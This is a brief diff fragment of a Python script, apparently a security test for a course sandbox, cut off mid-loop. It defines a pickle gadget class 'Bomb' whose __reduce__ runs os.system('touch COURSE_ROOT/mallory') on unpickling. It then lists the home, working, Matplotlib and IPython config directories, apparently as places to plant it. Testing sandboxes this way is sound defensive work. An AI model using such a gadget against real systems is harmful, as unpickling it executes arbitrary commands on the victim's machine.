@@ -2,11 +2,9 @@
 import os
 import pickle
 
-
 class Bomb:
     def __reduce__(self):
         return (os.system, ("touch COURSE_ROOT/mallory",))
-
 
 places = {os.path.expanduser("~"), os.getcwd(), os.environ["MPLCONFIGDIR"], os.environ["IPYTHONDIR"]}
 for place in places:
